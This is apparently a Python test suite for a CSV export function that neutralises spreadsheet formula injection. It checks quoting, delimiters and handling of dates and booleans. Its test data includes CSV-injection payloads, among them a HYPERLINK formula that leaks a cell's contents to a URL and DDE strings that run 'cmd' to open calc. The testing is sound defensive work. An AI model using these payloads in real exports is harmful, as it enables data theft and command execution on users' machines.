"""No cell of an export is a formula to a spreadsheet."""

import csv
from datetime import UTC, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ivr.csv_cells import csv_text, defused


def cells(*row: object, delimiter: str = ",") -> list[str]:
    """What a spreadsheet reads of one row."""
    text = csv_text(["one", "two", "three"][: len(row)], [row])
    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))[1]


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("https://example.com?leak="&A1,"ok")',
        "+12025550123",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\ufe661+1",
    ],
)
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\u200b", "\ufeff", "\x00"])
def test_a_formula_is_shown_as_words(words: str, before: str) -> None:
    assert defused(before + words) == f"'{before}{words}"


def test_nor_is_one_behind_what_may_divide_cells_elsewhere() -> None:
    assert defused("no; =1+1") == "no;' =1+1"
    assert defused("one\n=1+1") == "one\n'=1+1"
    assert defused("\t=1+1") == "'\t'=1+1"
    assert defused(';"=1+1') == ";'\"=1+1"


@given(st.text(alphabet=st.sampled_from('=+-@\uff1d;,\t\r\n" \u200bab1')))
def test_whatever_is_said_no_cell_begins_as_a_formula_with_either_divider(words: str) -> None:
    unseen = " \t\r\n\u200b"
    for delimiter in (",", ";"):
        found = cells(words, "x", words, delimiter=delimiter)
        assert not [cell for cell in found if cell.lstrip(unseen).startswith(("=", "+", "-", "@", "\uff1d"))]


@pytest.mark.parametrize("words", ["it is broken", "5 - 3", "billing@example.com", "'=1", "", "a=b"])
def test_words_that_are_no_formula_stay_as_they_are(words: str) -> None:
    assert cells(words, "x") == [words, "x"]


def test_quotes_commas_and_lines_stay_in_their_cell() -> None:
    said = 'she said "no", and\nhung up'
    assert cells(said, "x") == [said, "x"]


def test_numbers_stay_numbers_and_instants_are_told_with_their_zone() -> None:
    at = datetime(2026, 11, 23, 17, tzinfo=UTC)
    assert cells(-5, 0.25, at) == ["-5", "0.25", "2026-11-23T17:00:00+00:00"]
    assert csv_text(["a", "b"], [[-5, "x"]]) == '"a","b"\r\n-5,"x"\r\n'


def test_what_is_not_known_is_empty_and_what_is_so_is_yes() -> None:
    assert cells(None, True, False) == ["", "yes", "no"]
